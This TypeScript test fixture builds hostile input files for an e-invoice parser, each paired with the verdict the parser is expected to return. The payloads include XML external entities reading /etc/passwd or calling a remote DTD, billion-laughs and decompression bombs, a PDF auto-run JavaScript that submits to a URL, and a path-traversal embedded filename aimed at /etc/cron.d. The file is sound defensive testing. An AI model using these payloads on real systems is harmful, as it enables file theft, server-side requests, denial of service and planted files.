import { en16931, rightSpec, usualInput } from './spec.ts';
import { jpeg } from './images.ts';
import { deflated, deflatedZeros, pdfWithFile, rawPdf, type RawObject } from './raw-pdf.ts';
import { writeCii } from './write-cii.ts';
import { writeUbl } from './write-ubl.ts';

export interface HostileFile {
  what: string;
  name: string;
  bytes: Uint8Array;
  /** What has to come out: the kind, and the reason where there is one. */
  expected: string;
}

const text = (value: string): Uint8Array => new TextEncoder().encode(value);
const good = text(writeCii(rightSpec(usualInput, { guideline: en16931 })));
const contents = (stream: Uint8Array, filter = ''): { page: string; more: RawObject[] } => ({
  page: '/Contents 6 0 R',
  more: [{ dictionary: filter, stream }],
});

/**
 * Files that want something else than being read.
 * @param url a server that must never hear of it
 */
export function hostileFiles(url: string): HostileFile[] {
  return [...hostileXml(url), ...pdfBombs(), ...strangePdfs(url), ...others()];
}

function hostileXml(url: string): HostileFile[] {
  const file = (what: string, xml: string, expected: string): HostileFile => ({
    what,
    name: 'a.xml',
    bytes: text(xml),
    expected,
  });
  const laughs = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY a${String(i + 1)} "${`&a${String(i)};`.repeat(10)}">`,
  ).join('');
  const ubl = writeUbl(rightSpec(usualInput));
  return [
    file(
      'an entity from a file',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      'refused xml_unsafe',
    ),
    file(
      'an entity from the network',
      `<!DOCTYPE a [<!ENTITY % x SYSTEM "${url}x.dtd"> %x;]><a/>`,
      'refused xml_unsafe',
    ),
    file('an entity bomb', `<!DOCTYPE a [<!ENTITY a0 "ha">${laughs}]><a>&a9;</a>`, 'refused xml_unsafe'),
    file('100,000 levels', '<a>'.repeat(100_000) + '</a>'.repeat(100_000), 'refused xml_too_deep'),
    file('3 million elements', `<a>${'<b/>'.repeat(3_000_000)}</a>`, 'refused xml_too_large'),
    file(
      'a schema elsewhere',
      ubl.replace('<Invoice ', `<Invoice xmlns:xsi="urn:xsi" xsi:schemaLocation="urn:a ${url}a.xsd" `),
      'e-invoice',
    ),
    file('a stylesheet elsewhere', ubl.replace('?>', `?><?xml-stylesheet href="${url}a.xsl"?>`), 'e-invoice'),
    file('5 million brackets', `<a>${'<'.repeat(5_000_000)}`, 'not-an-e-invoice xml_broken'),
    file('15 MB of one text', `<a>${'x'.repeat(15 * 1024 * 1024)}</a>`, 'not-an-e-invoice xml_without_invoice'),
  ];
}

function pdfBombs(): HostileFile[] {
  const bomb = deflatedZeros(500);
  const medium = deflated(new Uint8Array(30 * 1024 * 1024).fill(0x20));
  const flate = '/Filter/FlateDecode';
  const twice = '/Filter[/FlateDecode/FlateDecode]';
  const many: RawObject[] = Array.from({ length: 60 }, () => ({ dictionary: flate, stream: medium }));
  const references = many.map((_one, i) => `${String(i + 6)} 0 R`).join(' ');
  const file = (what: string, bytes: Uint8Array): HostileFile => ({
    what,
    name: 'a.pdf',
    bytes,
    expected: 'refused too_much_memory',
  });
  return [
    file('500 MB inside the embedded file', pdfWithFile(bomb, { filter: flate })),
    file('500 MB packed twice', pdfWithFile(deflated(bomb), { filter: twice })),
    file('500 MB of page content', pdfWithFile(good, contents(bomb, flate))),
    file('60 times 30 MB of page content', pdfWithFile(good, { page: `/Contents[${references}]`, more: many })),
    file('an embedded file that is a JPEG bomb', pdfWithFile(jpeg(65_535, 65_535), { filter: '/Filter/DCTDecode' })),
  ];
}

function strangePdfs(url: string): HostileFile[] {
  const file = (what: string, bytes: Uint8Array, expected: string): HostileFile => ({
    what,
    name: 'a.pdf',
    bytes,
    expected,
  });
  const script = `/OpenAction<</S/JavaScript/JS(this.submitForm\\("${url}"\\))>>`;
  const image =
    '/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode';
  const drawn = pdfWithFile(good, {
    page: '/Contents 6 0 R/Resources<</XObject<</I 7 0 R>>>>',
    more: [
      { dictionary: '', stream: text('q 100 0 0 100 0 0 cm /I Do Q') },
      { dictionary: image, stream: jpeg(65_535, 65_535) },
    ],
  });
  const form = pdfWithFile(good, {
    page: '/Contents 6 0 R/Resources<</XObject<</F 7 0 R>>>>',
    more: [
      { dictionary: '', stream: text('/F Do') },
      {
        dictionary: '/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</F 7 0 R>>>>',
        stream: text('/F Do /F Do'),
      },
    ],
  });
  return [
    file('a script', pdfWithFile(good, { catalog: script }), 'e-invoice'),
    file('a file on a server', pdfWithFile(good, { catalog: `/AA<</O<</S/URI/URI(${url})>>>>` }), 'e-invoice'),
    file('a picture of four billion pixels', drawn, 'e-invoice'),
    file('a form that draws itself', form, 'e-invoice'),
    file(
      '100,000 nested lists',
      pdfWithFile(good, { catalog: `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
      'refused pdf_broken',
    ),
    file('a page that never ends', pdfWithFile(good, contents(text('['.repeat(200_000)))), 'e-invoice'),
    file(
      'an embedded entity bomb',
      pdfWithFile(text('<!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>')),
      'refused xml_unsafe',
    ),
    file('a path as the embedded name', pdfWithFile(good, { name: '../../../etc/cron.d/factur-x.xml' }), 'e-invoice'),
    file('no objects at all', rawPdf([]), 'refused pdf_broken'),
    file(
      'pages that are their own children',
      rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 99999999>>']),
      'plain pdf_without_invoice_data',
    ),
  ];
}

function others(): HostileFile[] {
  return [
    { what: 'a JPEG bomb', name: 'a.jpg', bytes: jpeg(65_535, 65_535), expected: 'refused image_too_large' },
    {
      what: 'a program called invoice',
      name: 'rechnung.pdf',
      bytes: text('MZ this is a program'),
      expected: 'refused unsupported_type',
    },
    { what: 'an invoice called picture', name: 'bild.png', bytes: good, expected: 'e-invoice' },
    { what: 'nothing', name: 'a.pdf', bytes: new Uint8Array(0), expected: 'refused empty' },
    { what: 'too much', name: 'a.pdf', bytes: new Uint8Array(26 * 1024 * 1024), expected: 'refused too_large' },
  ];
}
